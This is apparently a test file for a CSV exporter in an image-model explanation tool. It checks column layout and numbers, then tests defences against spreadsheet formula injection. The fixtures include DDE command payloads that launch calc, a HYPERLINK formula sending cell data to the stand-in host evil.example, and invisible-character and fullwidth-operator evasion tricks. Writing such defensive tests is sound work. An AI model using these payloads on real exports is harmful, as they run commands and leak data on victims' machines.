import fc from "fast-check"
import { describe, expect, it } from "vitest"
import type { Explanation } from "../../src/explanation.ts"
import { toCsv } from "../../src/report/index.ts"
import { foundSet, withEvidence } from "../render/make-evidence.ts"
import { makeExplanation } from "../render/make-explanation.ts"
import { readCsv } from "./read-csv.ts"

/** The rows by the names of their columns. */
function table(explanation: Explanation): readonly Readonly<Record<string, string>>[] {
  const [head = [], ...rows] = readCsv(toCsv(explanation))
  return rows.map((row) => Object.fromEntries(row.map(({ text }, i) => [head[i]!.text, text])))
}

/** The cell of a label, as it stands in the file. */
function labelCell(label: string): { readonly text: string; readonly quoted: boolean } {
  const explanation = makeExplanation({ effects: [0.5], answers: [{ index: 1, label, score: 0.25 }] })
  const [head = [], row = []] = readCsv(toCsv(explanation))
  return row[head.findIndex(({ text }) => text === "alone_answer")]!
}

describe("toCsv", () => {
  it("is a header and one row a region, with every digit and empty cells for what is not known", () => {
    const top = { index: 3, label: "cup", score: 0.7 }
    const explanation = makeExplanation({
      effects: [0.1 + 0.2, -1e-7],
      answers: [top, { ...top, label: 'a "b"' }],
    })
    expect(toCsv(explanation)).toBe(
      [
        '"region","row","column","left","top","width","height","effect","method","unit","verdict","average_effect","average_low","average_high","alone_effect","alone_answer","alone_answer_score","in_enough_set","in_needed_set"',
        '1,1,1,0,0,32,64,0.30000000000000004,"one-at-a-time","points of 1","unknown",,,,0.30000000000000004,"cup",0.7,,',
        '2,1,2,32,0,32,64,-1e-7,"one-at-a-time","points of 1","unknown",,,,-1e-7,"a ""b""",0.7,,',
        "",
      ].join("\r\n"),
    )
  })

  it("has what the evidence says of each region", () => {
    const cup = { index: 3, label: "cup", score: 0.25 }
    const explanation = withEvidence(makeExplanation({ effects: [0.5, -0.25, 0, 0.125], rows: 2 }), {
      half: 0.0625,
      alone: { effects: [0.75, null, 0.5, 0], answers: [cup, null, cup, cup] },
      sets: { enough: foundSet([0, 3], cup), needed: null },
      perFill: [
        [0.75, -0.25, 0, 0.25],
        [0.25, -0.25, 0, 0],
      ],
    })
    expect(table(explanation)[0]).toEqual({
      region: "1",
      row: "1",
      column: "1",
      left: "0",
      top: "0",
      width: "32",
      height: "32",
      effect: "0.5",
      method: "random-masks",
      unit: "points of 1",
      verdict: "supports",
      average_effect: "0.5",
      average_low: "0.4375",
      average_high: "0.5625",
      alone_effect: "0.75",
      alone_answer: "cup",
      alone_answer_score: "0.25",
      in_enough_set: "true",
      in_needed_set: "false",
      "average_effect_fill_1 (blur)": "0.75",
      "average_effect_fill_2 (image-mean)": "0.25",
    })
    expect(table(explanation).map(({ verdict }) => verdict)).toEqual(["supports", "opposes", "supports", "depends"])
    expect(table(explanation)[1]).toMatchObject({ alone_effect: "", alone_answer: "", alone_answer_score: "" })
    expect(table(explanation).map((row) => `${row.row} ${row.column}`)).toEqual(["1 1", "1 2", "2 1", "2 2"])
  })

  it("names the unit of scores that are no probabilities", () => {
    expect(table(makeExplanation({ effects: [2.5], scale: "logit" }))[0]).toMatchObject({
      effect: "2.5",
      unit: "logits",
    })
  })

  it("has no row and no column for regions of a mask, nor a number where there is none", () => {
    const box = { left: 0, top: 0, width: 2, height: 1 }
    const regions = {
      layout: { kind: "mask" },
      boxes: [box, { ...box, left: 1, width: 1 }],
      runs: [0, 1, 1, 1],
    } as const
    const rows = table(makeExplanation({ effects: [Number.NaN, 0.5], regions, seen: { width: 2, height: 1 } }))
    expect(rows[0]).toMatchObject({ region: "1", row: "", column: "", width: "2", effect: "" })
    expect(rows[1]).toMatchObject({ region: "2", row: "", column: "", left: "1", effect: "0.5" })
  })

  it("tells fills of one name apart", () => {
    const fills = [{ name: "color", options: { color: [0, 0, 0] } }, { name: "noise" }, { name: "noise" }]
    const [row = {}] = table(withEvidence(makeExplanation({ effects: [0.5] }), { fills }))
    expect(Object.keys(row).slice(-3)).toEqual([
      "average_effect_fill_1 (color #000000)",
      "average_effect_fill_2 (noise)",
      "average_effect_fill_3 (noise)",
    ])
  })
})

/** Signs that no reader sees: spaces, controls, zero widths, directions, fillers, a tag, a lone half of a pair. */
const unseen = [
  ...Array.from(
    " \t\r\n\v\f\0\u0001\u001b\u007f\u0085\u00a0\u00ad\u034f\u061c\u115f\u1680\u17b4\u180e\u2000\u2003\u2009\u200a\u200b",
  ),
  ...Array.from(
    "\u200c\u200d\u200e\u200f\u2028\u2029\u202a\u202e\u202f\u205f\u2060\u2063\u2066\u206f\u2800\u3000\u3164\ufe0f\ufeff",
  ),
  ...["\uffa0", "\ufff9", "\u{e0020}", "\ud800", "\u0301"],
]
const operators = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "−"]
const payloads = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"Error")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "＝1+1",
  "=\r\n1",
  '="a","b"',
  "   =1",
  " \t\u200b\ufeff\u202e=1",
  "\tplain",
  "\rplain",
  ...unseen.map((sign) => `${sign}=1+1`),
  ...operators.map((sign) => `${sign}1`),
  ...operators.map((sign) => `\u3000${sign}1`),
]

describe("a label that a spreadsheet might run", () => {
  it("comes in many kinds", () => expect(new Set(payloads).size).toBeGreaterThanOrEqual(60))

  it.each(payloads)("%j gets an apostrophe in front and is else as it was", (payload) => {
    const { text, quoted } = labelCell(payload)
    expect(quoted).toBe(true)
    expect(text.startsWith("'")).toBe(true)
    expect(text.replaceAll("'", "")).toBe(payload.replaceAll("'", ""))
  })

  it.each([";=1+1", "cat;\u00a0=1+1", "cat\t@SUM(1)", "cat\n-1"])(
    "%j has an apostrophe where a program with another sign between cells sees one begin",
    (payload) => {
      const { text } = labelCell(payload)
      expect(text.replaceAll("'", "")).toBe(payload)
      for (const part of text.split(/[;\t\r\n]/)) expect(part).not.toMatch(/^\s*[=+\-@]/)
    },
  )

  it.each(["cat", "hen-of-the-woods, Polyporus", "a=b", "3+4", "e-mail", "'=1", "", "猫", 'a,"b"\r\nc'])(
    "%j is none, and stays",
    (label) => expect(labelCell(label)).toEqual({ text: label, quoted: true }),
  )
})

describe("any table", () => {
  const label = fc.oneof(
    fc.string({ unit: "binary" }),
    fc.array(fc.constantFrom(...unseen, ...operators, ",", '"', ";", "'", "a", "\r\n")).map((signs) => signs.join("")),
  )
  const number = fc.double({ noNaN: true, noDefaultInfinity: true })

  it("gives its values back to another parser: numbers as numbers, text as text", () => {
    fc.assert(
      fc.property(fc.array(fc.tuple(number, number, label), { minLength: 1, maxLength: 5 }), (regions) => {
        const explanation = makeExplanation({
          effects: regions.map(([effect]) => effect),
          answers: regions.map(([, score, name]) => ({ index: 1, label: name, score })),
        })
        const [head = [], ...rows] = readCsv(toCsv(explanation))
        const place = (name: string): number => head.findIndex(({ text }) => text === name)
        expect(rows).toHaveLength(regions.length)
        rows.forEach((row, i) => {
          const [effect, score, name] = regions[i]!
          expect(row).toHaveLength(head.length)
          expect(row[place("effect")]!.quoted).toBe(false)
          expect(Number(row[place("effect")]!.text)).toBe(effect + 0)
          expect(Number(row[place("alone_answer_score")]!.text)).toBe(score + 0)
          const { text, quoted } = row[place("alone_answer")]!
          expect(quoted).toBe(true)
          expect(text.replaceAll("'", "")).toBe(name.replaceAll("'", ""))
          expect(text).not.toMatch(/^[\s\p{C}\p{Default_Ignorable_Code_Point}]*[=+\-@＝＋－＠]/u)
        })
      }),
    )
  })
})
